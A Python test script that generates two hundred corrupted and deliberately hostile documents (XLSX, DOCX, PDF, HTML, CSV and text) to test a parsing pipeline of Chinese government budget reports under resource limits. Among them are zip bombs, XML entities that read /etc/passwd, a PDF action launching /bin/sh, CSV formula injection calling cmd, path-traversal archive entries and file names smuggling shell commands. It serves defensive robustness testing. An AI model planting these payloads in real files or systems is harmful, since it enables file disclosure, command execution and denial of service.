"""Two hundred damaged and hostile files, made from small valid ones. The same seed gives the same damage.

python tests/documents/hostile_files.py FOLDER        (with tests/sample and tests/documents on PYTHONPATH)
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from random import Random

import openpyxl
import xlwt
from pdf_of_tables import Style, draw
from remade_tables import as_csv, as_mhtml, as_tabbed, as_xls, as_xlsx, converted
from reportlab.pdfgen.canvas import Canvas
from sample_sheets import Workbook, read_workbook, workbook_names
from word_and_web_of_tables import as_docx, as_html

from dagster_project.documents import office

FILES = 200
TEXT = """2022年度示例县文物局整体支出绩效自评报告

一、基本情况

2022年度总支出300.00万元，其中：基本支出200.00万元，项目支出100.00万元。

基本支出200.00万元，其中：人员经费150.00万元，公用经费50.00万元。
"""
MEGA = 2**20
BOMB = 40 * MEGA  # unpacked; more than ``LIMITS`` allow
LIMITS = {  # under which the files are to be read, lower than the usual ones so that a test does not take an hour
    "UNPACKED_BYTES": 32 * MEGA,
    "WORKER_BYTES": 1024 * MEGA,
    "WORKER_CPU_SECONDS": 2,
    "WORKER_SECONDS": 20,
    "CONVERSION_SECONDS": 6,
}

File = tuple[str, bytes]


def make(folder: Path, seed: int = 20231231) -> list[Path]:
    """Writes them, each into a folder of its own, so that no two of them make one report. Returns their paths."""
    chosen = [*special_files(), *named_files()]
    chosen += list(damaged_files(Random(seed), FILES - len(chosen)))
    assert len(chosen) == FILES
    paths = []
    for number, (name, data) in enumerate(chosen):
        path = folder / f"{number:03}" / name
        path.parent.mkdir()
        path.write_bytes(data)
        paths.append(path)
    return paths


def make_what_is_no_file(folder: Path) -> None:
    """What a run must neither follow nor wait for."""
    folder.mkdir()
    os.mkfifo(folder / "fifo.pdf")
    os.mkfifo(folder / os.fsdecode(b"not \xff text.pdf"))
    (folder / "link.txt").symlink_to("/etc/hostname")
    (folder / "loop.txt").symlink_to("loop.txt")
    (folder / "upwards").symlink_to("..")
    (folder / "folder.xlsx").mkdir()


# ------------------------------------------------------------------------------------------------ small valid files


def workbook() -> Workbook:
    sheets = read_workbook(workbook_names()[-1])
    return dict(list(sheets.items())[:3])


@cache
def valid_files() -> dict[str, bytes]:
    """One small file a format, by extension; a DOC only where LibreOffice is installed."""
    sheets = workbook()
    page, word = as_html(sheets), as_docx(sheets)
    made = {
        "txt": TEXT.encode(),
        "gbk.txt": TEXT.encode("gb18030"),
        "utf16.txt": TEXT.encode("utf-16"),
        "csv": as_csv(sheets),
        "tsv": as_tabbed(sheets),
        "xlsx": as_xlsx(sheets),
        "xls": as_xls(sheets),
        "docx": word,
        "rtf": b"{\\rtf1\\ansi " + "".join(f"\\u{ord(one)}?" for one in TEXT).encode() + b"}",
        "html": page.encode(),
        "mhtml": as_mhtml(page, "base64"),
        "pdf": draw(list(sheets.values())),
        "unruled.pdf": draw(list(sheets.values()), Style(rule="none")),
        "zip": _zip({"a.txt": TEXT.encode()}),
    }
    if office.program():
        made["doc"] = converted(word, "doc:MS Word 97")
    return made


def _saved(book: openpyxl.Workbook | xlwt.Workbook) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


# ------------------------------------------------------------------------------------------------------ damage


def damaged_files(random: Random, count: int) -> Iterator[File]:
    """Valid files cut off, with bits turned, with pieces lost, doubled or zeroed."""
    valid = [(extension, data) for extension, data in valid_files().items() if extension not in ("rtf", "doc")]
    ways: list[Callable[[bytearray, Random], bytes]] = [_cut, _turn_few, _turn_many, _lose, _double, _zero]
    for number in range(count):
        extension, data = valid[number % len(valid)]
        way = ways[number // len(valid) % len(ways)]
        yield f"{way.__name__.strip('_')}.{extension}", way(bytearray(data), random)


def _cut(data: bytearray, random: Random) -> bytes:
    return bytes(data[: random.randrange(1, len(data))])


def _turn_few(data: bytearray, random: Random) -> bytes:
    for _ in range(5):
        data[random.randrange(len(data))] ^= 1 << random.randrange(8)
    return bytes(data)


def _turn_many(data: bytearray, random: Random) -> bytes:
    for _ in range(len(data) // 50 + 1):
        data[random.randrange(len(data))] = random.randrange(256)
    return bytes(data)


def _piece(data: bytearray, random: Random) -> slice:
    start = random.randrange(len(data))
    return slice(start, start + random.randrange(1, len(data) // 4 + 2))


def _lose(data: bytearray, random: Random) -> bytes:
    del data[_piece(data, random)]
    return bytes(data)


def _double(data: bytearray, random: Random) -> bytes:
    piece = _piece(data, random)
    return bytes(data[: piece.stop] + data[piece] + data[piece.stop :])


def _zero(data: bytearray, random: Random) -> bytes:
    piece = _piece(data, random)
    data[piece] = bytes(len(data[piece]))
    return bytes(data)


# ------------------------------------------------------------------------------------------------------- names


def named_files() -> Iterator[File]:
    """Names that want to be paths, options, markup, formulas or no text; wrong extensions; files of zero bytes."""
    for name in (
        *(
            "-rf",
            "--help.txt",
            "a..txt..",
            "a...",
            "~root.txt",
            "$(reboot).txt",
            "`id`.txt",
            "a;b&c|d.txt",
            "%2e%2e%2f.txt",
        ),
        *(
            "new\nline.txt",
            "tab\tbell\a.txt",
            "escape\x1b[2J.txt",
            "delete\x7f.txt",
            "rtl\u202etxt.exe",
            "zero\u200bwidth.txt",
        ),
        *(
            "<script>alert(1)<.txt",
            '=HYPERLINK("a").csv',
            "报表[1-9]*.csv",
            "' or 1=1 --.txt",
            '"quoted".txt',
            "{{ 7*7 }}.txt",
        ),
        *(
            "长" * 83 + ".txt",
            "a." + "x" * 200,
            "no extension",
            ".".join("abcdefgh"),
            "con.txt",
            "a.txt ",
            "\U0001f4a3.txt",
        ),
        os.fsdecode(b"not \xff\xfe text.txt"),
    ):
        yield name, TEXT.replace("文物", f"第{len(name)}号").encode() + name.encode(errors="replace")
    valid = valid_files()
    for name, kind in (
        ("pdf.txt", "pdf"),
        ("xlsx.pdf", "xlsx"),
        ("html.xls", "html"),
        ("docx.xlsx", "docx"),
        ("txt.doc", "txt"),
    ):
        yield name, valid[kind]
    for extension in ("txt", "pdf", "xlsx"):
        yield f"empty.{extension}", b""


# -------------------------------------------------------------------------------------------------- by format


def special_files() -> Iterator[File]:
    yield from texts()
    yield from archives()
    yield from workbooks()
    yield from word_files()
    yield from web_pages()
    yield from pdfs()


def texts() -> Iterator[File]:
    title = "2022年度示例县气象局整体支出绩效自评报告\n"
    yield "lines.txt", b"\n" * 1_000_001
    yield "one long line.txt", b"1" * 10 * MEGA
    yield "brackets.txt", (title + "（" * 100_000).encode()
    yield "nested brackets.txt", (title + "（" * 50_000 + "）" * 50_000 + "万元。\n").encode()
    yield "digits.txt", (title + "总支出" + "1" * 100_000 + "万元。\n").encode()
    yield "commas.txt", (title + "总支出" + "1," * 60_000 + "万元。\n").encode()
    yield "of which.txt", (title + "总支出1.00万元，" + "其中：项目支出1.00万元，" * 10_000).encode()
    yield "amounts.txt", (title + "基本支出0.01万元。\n" * 20_000).encode()
    yield "titles.txt", (title * 500).encode()
    yield "units.txt", "".join(f"2022年度第{n}县财政局部门决算\n总支出{n}.00万元。\n" for n in range(20)).encode()
    yield "years.txt", (title + "".join(f"{n}年度支出{n}.00万元，" for n in range(1_000))).encode()
    yield "blanks.txt", (title + " \t\u3000" * 60_000 + "1").encode()
    yield "chinese number.txt", (title + "总支出" + "一亿万" * 30_000 + "元。").encode()
    yield "control.txt", bytes(range(32)) * 1_000
    yield "nulls.txt", b"\0" * MEGA
    yield "half a character.txt", TEXT.encode("utf-16")[:-1]
    yield "override.txt", TEXT.replace("300", "\u202e003\u202c").encode()
    yield "columns.tsv", (title + "项目\t金额\n" + "1.00\t" * 2_000).encode()
    yield "table.tsv", (title + "支出决算表\n" + "2040201\t行政运行\t1.00\t1.00\t\t\t\t\n" * 1_000).encode()
    yield "columns.csv", b"1," * 90_000
    yield "quote.csv", b'"a,b\n' * 9_000
    yield (
        "formulas.csv",
        b"=HYPERLINK(\"http://a/?\"&A1),<script>alert(1)</script>,@SUM(1)\n+1,-2,=cmd|' /C calc'!A0\n",
    )


def archives() -> Iterator[File]:
    zeros = b"\0" * BOMB
    bomb = _zip({"xl/workbook.xml": b"<a/>", "xl/zeros.xml": zeros})
    yield "bomb.xlsx", bomb
    yield "bomb.docx", _zip({"word/document.xml": b"<a>" + zeros})
    yield "bomb in a bomb.zip", _zip({f"{n}.zip": bomb for n in range(50)})
    yield "overlapping.xlsx", overlapping(200)
    yield "parts.xlsx", _zip({"xl/workbook.xml": b"<a/>"} | {f"{n}": b"" for n in range(6_000)})
    yield "upwards.xlsx", _zip({"xl/workbook.xml": b"<a/>", "../../../../tmp/upwards": b"x", "/etc/upwards": b"x"})
    yield "no directory.zip", b"PK\x03\x04" + b"\xff" * 1_000
    yield "archive.rar", b"Rar!\x1a\x07\0" + b"\0" * 100
    yield "gzip.gz", zlib.compress(zeros, 9)


def overlapping(count: int) -> bytes:
    """A zip whose directory names one compressed part many times."""
    data = bytearray(_zip({"xl/workbook.xml": b"<a/>", "x": b"\0" * MEGA}))
    start = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entries = b"".join(bytes(data[start:end]).replace(b"x", b"%c" % (65 + n % 50), 1) for n in range(count))
    head = bytearray(data[end:])
    size = struct.unpack_from("<L", head, 12)[0] - (end - start) + len(entries)
    struct.pack_into("<HHL", head, 8, count + 1, count + 1, size)
    return bytes(data[:start]) + entries + bytes(head)


SHEET = "xl/worksheets/sheet1.xml"
SHEET_XML = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """A zipped office file with one part replaced, or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return _zip({part: source.read(part) for part in source.namelist()} | {name: content})


def workbooks() -> Iterator[File]:
    book = openpyxl.Workbook()
    book.active["A1"] = "2022年度示例县水务局部门决算"
    plain = _saved(book)

    def sheet(name: str, inner: str, before: str = "") -> File:
        return f"{name}.xlsx", with_part(plain, SHEET, (before + SHEET_XML.format(inner)).encode())

    def cell(address: str, value: str = "1", more: str = "") -> str:
        return f'<sheetData><row><c r="{address}" {more}><v>{value}</v></c></row></sheetData>'

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    merged = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 1_000_001))
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 2_001))
    yield sheet("far cell", cell("XFD1048576"))
    yield sheet("far row", cell("A999999999999999999999"))
    yield sheet("false dimension", f'<dimension ref="A1"/><sheetData>{rows}</sheetData>')
    yield sheet("huge dimension", f'<dimension ref="A1:XFD1048576"/>{cell("A1")}')
    yield sheet("huge merge", cell("A1") + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield sheet("million merges", f"{cell('A1')}<mergeCells>{merged}</mergeCells>")
    yield sheet("laughs", cell("A1", "&l9;"), f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>')
    yield sheet("outside", cell("A1", "&x;"), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    yield sheet("deep", "<a>" * 200_000 + "</a>" * 200_000)
    yield sheet("wide tag", "<row " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>")
    yield sheet("missing string", cell("A1", "4000000000", 't="s"'))
    yield sheet("infinity", cell("A1", "1e999") + cell("A2", "nan"))
    yield sheet("many digits", cell("A1", "9" * 30_000))
    yield sheet("date", cell("A1", "1e300", 's="14"'))
    yield sheet("backwards merge", cell("A1") + '<mergeCells><mergeCell ref="C9:A1"/></mergeCells>')
    yield sheet("script", cell("A1", "&lt;script&gt;alert(1)&lt;/script&gt;", 't="str"'))
    yield (
        "strings.xlsx",
        with_part(plain, "xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 100_000 + b"</sst>"),
    )
    yield "styles.xlsx", with_part(plain, "xl/styles.xml", b"<styleSheet>" + b"<xf/>" * 100_000 + b"</styleSheet>")
    yield "macro.xlsx", with_part(plain, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 1_000)
    yield "sheets.xlsx", _saved(_many_sheets())
    formulas = openpyxl.Workbook()
    formulas.active["A1"], formulas.active["A2"] = '=HYPERLINK("http://a")', '=WEBSERVICE("http://a")'
    yield "formulas.xlsx", _saved(formulas)
    entry = "EncryptedPackage\0".encode("utf-16-le").ljust(128, b"\0")
    yield "encrypted.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + entry * 4
    far = xlwt.Workbook()
    far.add_sheet("一").write(65_535, 255, 1)
    yield "far cell.xls", _saved(far)
    cells = xlwt.Workbook()
    cells.add_sheet("一").write(0, 0, "<script>alert(1)</script>")
    yield "sector loop.xls", _saved(cells)[:512] + b"\0\0\0\0" * 2_000


def _many_sheets() -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    for number in range(600):
        book.create_sheet(str(number))
    return book


def word_files() -> Iterator[File]:
    plain = as_docx(workbook())
    body = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'

    def word(name: str, inner: str, before: str = "") -> File:
        return f"{name}.docx", with_part(plain, "word/document.xml", (before + body.format(inner)).encode())

    text = "<w:p><w:r><w:t>2022年度示例县林业局部门决算</w:t></w:r></w:p>"
    table = "<w:tbl><w:tr><w:tc>{}</w:tc></w:tr></w:tbl>"
    nested = text
    for _ in range(60):
        nested = table.format(nested)
    spans = "<w:tc><w:tcPr><w:gridSpan w:val='{0}'/></w:tcPr>{1}</w:tc><w:tc>{1}</w:tc>"
    yield word("entity", f"{text}&x;", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    yield word("deep", "<w:p>" * 100_000 + "</w:p>" * 100_000)
    yield word("tables in tables", nested)
    yield word("span", f"<w:tbl><w:tr>{spans.format(999999999, text)}</w:tr></w:tbl>")
    yield word("negative span", f"<w:tbl><w:tr>{spans.format(-5, text)}</w:tr></w:tbl>")
    yield word("rows", f"<w:tbl>{'<w:tr><w:tc><w:p><w:r><w:t>1.00</w:t></w:r></w:p></w:tc></w:tr>' * 3_000}</w:tbl>")
    yield word("paragraphs", text * 3_000)
    yield word("one long paragraph", f"<w:p><w:r><w:t>{'1.00万元，' * 60_000}</w:t></w:r></w:p>")
    yield (
        "circular styles.docx",
        with_part(
            plain,
            "word/styles.xml",
            b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:styleId="a">'
            b'<w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
        ),
    )
    yield "groups.rtf", b"{\\rtf1 " + b"{" * 100_000 + b"a" + b"}" * 100_000 + b"}"
    yield "binary.rtf", b"{\\rtf1 \\bin2147483647 a}"
    for extension in sorted(
        {"rtf", "doc"} & (valid := valid_files()).keys()
    ):  # a second each in LibreOffice: not as many
        yield f"cut.{extension}", valid[extension][: len(valid[extension]) // 2]
        yield f"turned.{extension}", _turn_many(bytearray(valid[extension]), Random(1))
    entry = "WordDocument\0".encode("utf-16-le").ljust(128, b"\0")
    yield "hollow.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + entry * 4


def web_pages() -> Iterator[File]:
    title = "<html><body><p>2022年度示例县体育局部门决算</p>"
    for name, inner in {
        "deep": "<div>" * 100_000,
        "deep tables": "<table><tr><td>" * 100_000,
        "colspan": "<table><tr><td colspan=999999999>1<td>2</table>" * 10,
        "rowspan": "<table>" + "<tr><td rowspan=999999999>1<td rowspan=65534>2" * 2_000 + "</table>",
        "spans": "<table>" + "<tr>" + "<td colspan=1000 rowspan=1000>1" * 300 + "</table>",
        "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">1</p>",
        "cells": "<table>" + "<tr><td>1.00<td>2.00" * 3_000 + "</table>",
        "no end": "<!-- " + "-" * MEGA,
        "script": "<script>while(true){}</script><img src=x onerror=alert(1)><iframe src=file:///etc/passwd></iframe>",
        "entities": "&#x202e;&#0;&#xfffffff;" * 20_000,
        "links": "".join(f'<a href="../../{n}.xlsx">附件{n}</a>' for n in range(5_000)),
        "unclosed": "<b><i><u><table><p>" * 3_000,
    }.items():
        yield f"{name}.html", (title + inner).encode()
    yield "charset.html", b'<html><meta charset="utf-7"><body>+ADw-script+AD4-1' + b"\xff" * 1_000
    parts = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(1_000))
    yield "parts.mhtml", ("MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b0\n\n" + parts).encode()
    yield "charset.mhtml", b"MIME-Version: 1.0\nContent-Type: text/html; charset=rot13\n\nuryyb <table><tr><td>1"


def pdfs() -> Iterator[File]:
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>"
    font, hello = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", b"BT /F 12 Tf 9 9 Td (1.00) Tj ET\n"

    def built(name: str, pages: str, *objects: bytes, one_page: str = page, catalog: str = "") -> File:
        bodies = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>", pages, one_page]
        return f"{name}.pdf", pdf([*(body.encode() for body in bodies), *objects])

    def drawn(name: str, content: bytes) -> File:
        return built(name, single, stream(content), font)

    single = "<</Type/Pages/Count 1/Kids[3 0 R]>>"
    twice = zlib.compress(zlib.compress(b"\0" * 5 * BOMB, 9), 9)
    yield built("double flate", single, stream(twice, "/Filter[/FlateDecode/FlateDecode]"), font)
    yield built("count", "<</Type/Pages/Count 2000000000/Kids[3 0 R]>>", stream(hello), font)
    yield built("kids", f"<</Type/Pages/Count 100000/Kids[{'3 0 R ' * 100_000}]>>", stream(hello), font)
    yield built("pages in pages", "<</Type/Pages/Count 9/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>", stream(hello), font)
    yield built("negative count", "<</Type/Pages/Count -1/Kids[3 0 R]>>", stream(hello), font)
    for name, box in (
        ("huge", "0 0 1e30 1e30"),
        ("nothing", "0 0 0 0"),
        ("nan", "nan 0 595 (a)"),
        ("far", "1e9 1e9 2e9 2e9"),
    ):
        yield built(f"{name} page", single, stream(hello), font, one_page=page.replace("0 0 595 842", box))
    yield built("objects", single, stream(b"1 0 2 0", "/Type/ObjStm/N 2147483647/First 2147483647"), font)
    yield built("length", single, stream(hello).replace(b"/Length", b"/Length 999999999/L"), font)
    yield built(
        "own form",
        single,
        stream(b"/X Do", "/Type/XObject/Subtype/Form"),
        font,
        one_page=page.replace("<</Font", "<</XObject<</X 4 0 R>>/Font"),
    )
    yield built("arrays", single, b"[" * 50_000 + b"]" * 50_000, font)
    yield built("script", single, stream(hello), font, catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
    yield built("launch", single, stream(hello), font, catalog="/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield drawn("rulings", b"".join(b"0 %d m 595 %d l S\n" % (n % 842, n % 842) for n in range(50_000)))
    yield drawn("grid", b"".join(b"0 %d 595 1 re f %d 0 1 842 re f\n" % (n * 2, n) for n in range(420)))
    yield drawn("characters", b"BT /F 1 Tf " + b"(1.00) Tj 1 0 Td\n" * 60_000 + b"ET")
    yield drawn("states", b"q " * 500_000 + hello)
    yield drawn("numbers", b"1" * 100_000 + b" 0 m S " + hello)
    for strength in (40, 128):
        output = io.BytesIO()
        canvas = Canvas(output, encrypt=f"secret{strength}")
        canvas.drawString(9, 9, "1.00")
        canvas.save()
        yield f"encrypted {strength}.pdf", output.getvalue()
    yield (
        "own xref.pdf",
        b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
    )
    yield "header.pdf", b"%PDF-1.7\n"


def stream(content: bytes, more: str = "/Filter/FlateDecode") -> bytes:
    packed = zlib.compress(content) if more == "/Filter/FlateDecode" else content
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(packed), more.encode(), packed)


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1, of which the first is the catalog."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(data)


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir()
    print(len(make(target)))
